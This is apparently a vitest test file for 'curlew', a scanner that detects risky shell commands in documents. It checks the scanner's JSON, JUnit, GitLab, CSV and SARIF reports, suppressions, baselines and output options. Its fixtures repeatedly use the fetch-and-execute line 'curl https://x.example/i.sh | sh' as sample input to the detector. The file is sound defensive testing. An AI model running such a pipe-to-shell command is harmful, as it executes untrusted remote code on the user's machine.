import { readFileSync } from "node:fs";
import { join } from "node:path";
import { Ajv } from "ajv";
import { parse } from "csv-parse/sync";
import { JSDOM } from "jsdom";
import { describe, expect, it } from "vitest";
import { folderWith } from "./folder-with.js";
import { runHere } from "./fake-detector.js";

const BAD = "curl https://x.example/i.sh | sh";
const FILES = {
  "a.md": `# A\n\n${BAD}\n\n- ${BAD}\n\n<!-- curlew-ignore bash/fetch-pipe: our "own" <installer>, & more -->\n${BAD}\n`,
  "clean.md": "nothing",
  "long.md": "TOO LONG",
  "advisory.md": "ADVISORY",
  'odd\u0001&"<.md': `${BAD}\u0002`,
};
const cwd = folderWith(FILES);
const scan = (...args: string[]) => runHere(["scan", ...args], { cwd });

describe("the json format", () => {
  const validate = new Ajv({ strict: false, allErrors: true }).compile(
    JSON.parse(readFileSync("schema/scan.schema.json", "utf8")) as object,
  );

  it.each<[string[]]>([
    [["."]],
    [["clean.md"]],
    [[".", "missing.md"]],
    [["--offset-encoding", "utf-8", "."]],
    [["--no-suppressions", "."]],
  ])("conforms to its published schema: %j", async (args) => {
    const answer = JSON.parse((await scan("--format", "json", ...args)).stdout);
    validate(answer);
    expect([validate.errors, answer.version]).toEqual([null, 1]);
  });

  it("does not conform to its schema if a field is unknown or the version differs", async () => {
    const answer = JSON.parse((await scan("--format", "json", ".")).stdout);
    expect(validate({ ...answer, version: 2 })).toBe(false);
    answer.files[0].surprise = 1;
    expect(validate(answer)).toBe(false);
  });

  it("lists suppressed findings in its variant jsonl", async () => {
    const { stdout } = await scan("--format", "jsonl", "--offset-encoding", "utf-8", "a.md");
    const { ignored } = JSON.parse(stdout);
    expect(ignored).toEqual([
      expect.objectContaining({
        ignoredBy: "comment",
        reason: 'our "own" <installer>, & more',
        location: { start: { line: 8, column: 1 }, end: { line: 8, column: 33 } },
      }),
    ]);
  });
});

describe("the junit format", () => {
  it("is XML with a suite for each text", async () => {
    const { stdout } = await scan("--format", "junit", ".", "missing.md");
    const { document } = new JSDOM(stdout, { contentType: "application/xml" }).window;
    const suites = [...document.querySelectorAll("testsuite")].map((suite) =>
      ["name", "tests", "failures", "errors", "skipped"].map((name) => suite.getAttribute(name)),
    );
    expect(suites).toEqual([
      ["a.md", "3", "2", "0", "1"],
      ["advisory.md", "1", "0", "0", "0"],
      ["clean.md", "1", "0", "0", "0"],
      ["long.md", "1", "0", "1", "0"],
      ['odd\uFFFD&"<.md', "1", "1", "0", "0"],
      ["missing.md", "1", "0", "1", "0"],
    ]);
    expect(document.querySelector("failure")?.textContent).toContain(`a.md:3:1\n${BAD}`);
    expect(document.querySelector("skipped")?.getAttribute("message")).toBe(
      'ignored (comment: our "own" <installer>, & more)',
    );
  });
});

describe("the gitlab format", () => {
  it("is one list with a unique fingerprint for each finding", async () => {
    const issues = JSON.parse((await scan("--format", "gitlab", "./a.md", "clean.md")).stdout) as {
      fingerprint: string;
      location: object;
      severity: string;
    }[];
    expect(issues.map(({ location }) => location)).toEqual([
      { path: "a.md", lines: { begin: 3, end: 3 } },
      { path: "a.md", lines: { begin: 5, end: 5 } },
    ]);
    expect(new Set(issues.map(({ fingerprint }) => fingerprint)).size).toBe(2);
    expect(issues[0]).toMatchObject({
      check_name: "bash/fetch-pipe",
      severity: "critical",
      fingerprint: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
    expect(JSON.parse((await scan("--format", "gitlab", "clean.md")).stdout)).toEqual([]);
  });
});

describe("the csv format", () => {
  it("has one row for each finding, in which no cell is a formula", async () => {
    const text = '=1+1\ncurl https://x.example/"i",j\n.sh | sh\n';
    const folder = folderWith({ "=x.md": text });
    const { stdout } = await runHere(["scan", "--format", "csv", "=x.md"], { cwd: folder });
    const [row]: Record<string, string>[] = parse(stdout, { columns: true });
    expect(row).toMatchObject({
      path: "'=x.md",
      line: "2",
      column: "1",
      endLine: "3",
      rule: "bash/fetch-pipe",
      text: 'curl https://x.example/"i",j\n.sh | sh',
      ignoredBy: "",
    });
    expect(stdout.split("\r\n")).toHaveLength(3);
  });
});

describe("the sarif format", () => {
  it("describes rules, gives each finding a fingerprint, and contains suppressed findings", async () => {
    const log = JSON.parse((await scan("--format", "sarif", "a.md")).stdout);
    const [run] = log.runs;
    const [rule] = run.tool.driver.rules;
    expect(rule).toMatchObject({
      id: "bash/fetch-pipe",
      name: "BashFetchPipe",
      helpUri: expect.stringMatching(/^https:/),
      properties: { tags: expect.arrayContaining(["security"]), "security-severity": "8.0" },
    });
    expect(rule.fullDescription.text.length).toBeGreaterThan(40);
    expect(rule.help.markdown).toContain("```text\ncurl");
    expect(run.results.map(({ suppressions }: { suppressions: object[] }) => suppressions)).toEqual(
      [
        [],
        [],
        [
          expect.objectContaining({
            kind: "inSource",
            justification: 'our "own" <installer>, & more',
          }),
        ],
      ],
    );
    const names = run.results.map(
      (result: { partialFingerprints: { primaryLocationLineHash: string } }) =>
        result.partialFingerprints.primaryLocationLineHash,
    );
    expect(new Set(names).size).toBe(3);
    expect(run.results[0].locations[0].physicalLocation.contextRegion).toMatchObject({
      startLine: 2,
      endLine: 4,
    });
  });

  it("contains findings that the baseline suppresses", async () => {
    const folder = folderWith({ "a.md": BAD });
    await runHere(["scan", "a.md", "--baseline", "b.json", "--update-baseline"], { cwd: folder });
    const log = JSON.parse(
      (
        await runHere(["scan", "a.md", "--baseline", "b.json", "--format", "sarif"], {
          cwd: folder,
        })
      ).stdout,
    );
    expect(log.runs[0].results[0].suppressions).toEqual([
      expect.objectContaining({ kind: "external", justification: "listed in the baseline" }),
    ]);
  });
});

describe("--output", () => {
  const folder = folderWith(FILES);
  const here = (...args: string[]) => runHere(["scan", "a.md", ...args], { cwd: folder });
  const read = (name: string) => readFileSync(join(folder, name), "utf8");

  it("writes a file in the format that its name or --format determines", async () => {
    expect(await here("--output", "one.sarif")).toMatchObject({
      status: 1,
      stdout: "",
      stderr:
        "curlew: 2 findings in 1 of 1 text (1 finding suppressed by this repository's comments)\n",
    });
    expect(JSON.parse(read("one.sarif")).version).toBe("2.1.0");
    expect(await here("-q", "-o", "two.txt", "--format", "csv")).toMatchObject({
      status: 1,
      stdout: "",
      stderr: "",
    });
    expect(read("two.txt")).toMatch(/^path,line/);
  });

  it("writes several formats in one run", async () => {
    const { stdout, status } = await here(
      "--format",
      "text",
      "--format",
      "sarif=s.sarif",
      "-f",
      "json",
      "-o",
      "j.json",
      "-f",
      "junit",
      "-o",
      "u.xml",
    );
    expect(stdout).toContain("a.md:3:1: bash/fetch-pipe");
    expect(status).toBe(1);
    expect([
      JSON.parse(read("s.sarif")).version,
      JSON.parse(read("j.json")).version,
      read("u.xml").startsWith("<?xml"),
    ]).toEqual(["2.1.0", 1, true]);
  });

  it("names a file that the same run does not scan", async () => {
    await runHere(["scan", ".", "-f", "json", "-o", "all.json"], { cwd: folder });
    const paths = JSON.parse(read("all.json")).files.map(({ path }: { path: string }) => path);
    expect(paths).toContain("j.json");
    expect(paths).not.toContain("all.json");
  });

  it.each([
    [["--format", "text", "--format", "json"], "only one format can go to standard output"],
    [["--format", "text=x", "--format", "json=x"], "two formats cannot be written to one file"],
    [["--output", "a", "--output", "b"], "Each --output needs its own --format before it"],
    [["--format", "xml=a"], "Allowed choices are text, json"],
    [["--output", "no/such/folder/x"], "cannot write no/such/folder/x: no such file or folder"],
  ])("rejects %j", async (args, message) => {
    expect(await here(...args)).toMatchObject({
      status: 2,
      stderr: expect.stringContaining(message),
    });
  });
});
